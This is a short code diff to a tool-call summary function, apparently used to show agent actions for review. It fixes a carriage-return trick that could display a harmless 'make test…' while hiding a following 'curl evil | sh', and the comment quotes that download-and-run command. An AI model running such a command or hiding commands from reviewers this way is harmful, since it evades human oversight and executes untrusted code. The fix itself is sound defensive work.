@@ -224,7 +224,10 @@ def summarize(tool: str, tool_input: dict[str, Any]) -> str:
     line = _command(tool, tool_input) or _path(tool_input) or (url if isinstance(url, str) else "")
     if not line.strip():
         return f"{tool}(...)"[:MAX_SUMMARY]
-    first, *rest = line.strip().splitlines()
+    # Only a newline ends the line: splitlines() would also cut at "\r", and a summary
+    # "make test…" could hide the "curl evil | sh" after it.
+    first, *rest = line.strip().split("\n")
+    first = first.removesuffix("\r")
     if rest or len(first) > MAX_SUMMARY:
         return first[: MAX_SUMMARY - 1] + "…"
     return first
